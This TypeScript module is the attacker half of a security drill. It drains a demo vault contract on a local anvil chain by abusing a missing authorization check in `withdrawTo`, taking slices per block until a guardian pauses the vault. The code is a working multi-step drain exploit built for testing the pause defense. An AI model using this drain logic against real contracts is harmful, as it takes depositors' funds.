/**
 * The drill's attacker: drains DemoVault through its `withdrawTo` bug (no check that the caller is the
 * account whose deposit moves), one slice per block, until a step reverts because the vault is paused.
 *
 * Pacing: a step is broadcast as soon as the previous step's receipt appears, i.e. right after the
 * block that mined it — so under interval mining each step competes with warden's pause for the next
 * block. The attacker pays ordinary fees (maxFeePerGas = 2 × baseFee + 1 gwei tip); warden's guardian
 * uses a larger multiplier, and anvil orders pending transactions by maxFeePerGas, so a pause sent in
 * the same block interval lands first and the attacker's step reverts.
 */
import { encodeFunctionData, type Address, type Hex } from 'viem';
import { privateKeyToAccount } from 'viem/accounts';
import { demoVaultAbi } from './abis.js';
import { AbortedError, createDrillClient, feesFromLatestBlock, sendSigned, waitForReceipt } from './tx.js';

export interface DrainStep {
  /** 0-based step number. */
  index: number;
  txHash: Hex;
  blockNumber: number;
  status: 'success' | 'reverted';
  /** Amount the step tried to take (raw units); counted as lost only when `status` is success. */
  amount: bigint;
  /** Whose deposit the step took. */
  victim: Address;
  /** Wall time (ms) the step was broadcast. */
  sentAt: number;
}

export interface RunDrainAttackParameters {
  rpcUrl: string;
  /** An anvil dev key; the drill uses ATTACKER (#2). */
  attackerKey: Hex;
  vault: Address;
  /** Depositors whose deposits are taken; their balances are read from the vault when the attack starts. */
  victims: readonly Address[];
  /** Receives the stolen tokens; default the attacker. */
  recipient?: Address;
  /** Each step takes this percentage of the vault's total deposits at the start; default 10. */
  slicePercent?: number;
  /** At most this many steps; default 8. */
  maxSteps?: number;
  /** maxFeePerGas = baseFee × this + priorityFee; default 2 (warden's guardian defaults to 3). */
  feeMultiplier?: number;
  /** Tip in wei; default 1 gwei. */
  priorityFee?: bigint;
  /** Gas limit per step. Fixed, not estimated: a step must be mined — and revert — once the vault is paused. Default 200,000. */
  gas?: bigint;
  /** Receipt polling interval; default 25 ms. */
  pollingIntervalMs?: number;
  /** Called after each step's receipt, before the next step is sent (awaited). */
  onStep?(step: DrainStep): void | Promise<void>;
  /** Stops the attack between steps or while waiting for a receipt. */
  signal?: AbortSignal;
}

export interface RunDrainAttackReturnType {
  steps: DrainStep[];
  /** Block of the first successful malicious tx; undefined if none succeeded. */
  exploitBlock: number | undefined;
  /** Sum of the successful steps' amounts (raw units). */
  valueLost: bigint;
  /** The amount each step aims for (slicePercent of totalDepositsAtStart). */
  sliceAmount: bigint;
  totalDepositsAtStart: bigint;
  /** reverted: a step reverted (the vault was paused); drained: the victims had nothing left. */
  stopReason: 'reverted' | 'max-steps' | 'drained' | 'aborted';
}

/** Alias of {@link RunDrainAttackReturnType}. */
export type DrainAttackResult = RunDrainAttackReturnType;

/**
 * Runs the multi-step drain. Each step takes min(slice, deposit) from the victim with the largest
 * remaining deposit, so with uneven deposits the first steps each take exactly one slice. Guarantees:
 * at most one step is pending at any time (one exploit tx per block); a reverted step ends the attack;
 * an abort ends it without throwing (stopReason 'aborted'). Other RPC failures throw.
 *
 * @example
 * const result = await runDrainAttack({ rpcUrl, attackerKey: drillAccounts.attacker.key, vault: demo.vault,
 *   victims: demo.depositors.map((d) => d.address) });
 * // result.steps: success, success, reverted (paused) …
 */
export async function runDrainAttack(params: RunDrainAttackParameters): Promise<RunDrainAttackReturnType> {
  const pollingIntervalMs = params.pollingIntervalMs ?? 25;
  const client = createDrillClient({ rpcUrl: params.rpcUrl, pollingIntervalMs });
  const attacker = privateKeyToAccount(params.attackerKey);
  const recipient = params.recipient ?? attacker.address;
  const slicePercent = params.slicePercent ?? 10;
  const maxSteps = params.maxSteps ?? 8;
  if (!(slicePercent > 0 && slicePercent <= 100)) throw new RangeError(`slicePercent must be in (0, 100], got ${slicePercent}`);

  const [chainId, firstNonce, totalDepositsAtStart, balances] = await Promise.all([
    client.getChainId(),
    client.getTransactionCount({ address: attacker.address, blockTag: 'pending' }),
    client.readContract({ address: params.vault, abi: demoVaultAbi, functionName: 'totalDeposits' }),
    Promise.all(
      params.victims.map((victim) => client.readContract({ address: params.vault, abi: demoVaultAbi, functionName: 'depositOf', args: [victim] })),
    ),
  ]);
  // Basis points keep the slice exact in bigint for fractional percentages.
  const sliceAmount = (totalDepositsAtStart * BigInt(Math.round(slicePercent * 100))) / 10_000n;
  const remaining = new Map(params.victims.map((victim, i) => [victim, balances[i]!]));

  const steps: DrainStep[] = [];
  let stopReason: RunDrainAttackReturnType['stopReason'] = 'max-steps';
  try {
    for (let index = 0; index < maxSteps; index++) {
      if (params.signal?.aborted) throw new AbortedError();
      const [victim, balance] = [...remaining].reduce((best, entry) => (entry[1] > best[1] ? entry : best), [recipient, 0n] as [Address, bigint]);
      const amount = balance < sliceAmount ? balance : sliceAmount;
      if (amount === 0n) {
        stopReason = 'drained';
        break;
      }
      const fees = await feesFromLatestBlock({ client, multiplier: params.feeMultiplier ?? 2, priorityFee: params.priorityFee ?? 1_000_000_000n });
      const data = encodeFunctionData({ abi: demoVaultAbi, functionName: 'withdrawTo', args: [victim, recipient, amount] });
      const sentAt = Date.now();
      const txHash = await sendSigned({ client, account: attacker, chainId, nonce: firstNonce + index, to: params.vault, data, gas: params.gas ?? 200_000n, fees });
      const receipt = await waitForReceipt({ client, hash: txHash, pollingIntervalMs, signal: params.signal });
      const step: DrainStep = { index, txHash, blockNumber: Number(receipt.blockNumber), status: receipt.status, amount, victim, sentAt };
      steps.push(step);
      if (step.status === 'success') remaining.set(victim, balance - amount);
      await params.onStep?.(step);
      if (step.status === 'reverted') {
        stopReason = 'reverted';
        break;
      }
    }
  } catch (error) {
    if (!(error instanceof AbortedError)) throw error;
    stopReason = 'aborted';
  }

  const successful = steps.filter((step) => step.status === 'success');
  return {
    steps,
    exploitBlock: successful[0]?.blockNumber,
    valueLost: successful.reduce((sum, step) => sum + step.amount, 0n),
    sliceAmount,
    totalDepositsAtStart,
    stopReason,
  };
}
